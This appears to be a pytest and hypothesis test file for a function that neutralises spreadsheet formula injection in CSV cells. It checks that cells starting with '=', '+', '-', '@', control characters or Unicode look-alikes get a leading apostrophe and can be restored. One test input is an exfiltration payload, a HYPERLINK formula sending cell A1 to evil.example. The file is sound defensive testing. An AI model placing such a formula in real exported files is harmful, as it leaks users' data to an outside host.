# ruff: noqa: RUF001 -- look-alike characters are what is tested
import pytest
from hypothesis import given
from hypothesis import strategies as st

from parsec_cli.cells import neutralise, restore


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://evil.example/?"&A1)',
        "+1+1",
        "-2",
        "@SUM(1)",
        "\t=1",
        "\rx",
        "\tx",
        "  =1",
        "\u00a0=1",
        "\u200b=1",
        "\ufeff=1",
        "\n=1",
        "＝1",
        "＋1",
        "－1",
        "＠x",
        "−1",
        "'quoted",
        "'",
    ],
)
def test_a_cell_that_a_spreadsheet_would_run_gets_an_apostrophe(cell):
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["", "alice", "a=b", "日本", "0x12", "a-b", " x", "\nx", "(=1)"])
def test_other_cells_stay_unchanged(cell):
    assert neutralise(cell) == cell


@given(st.text() | st.text(alphabet="'=+-@\t\r ＝a", max_size=6))
def test_restoring_gives_the_original(cell):
    assert restore(neutralise(cell)) == cell


@pytest.mark.parametrize("cell", ["'hello", "o'brien", "=1"])
def test_cells_that_were_never_neutralised_are_read_unchanged(cell):
    assert restore(cell) == cell
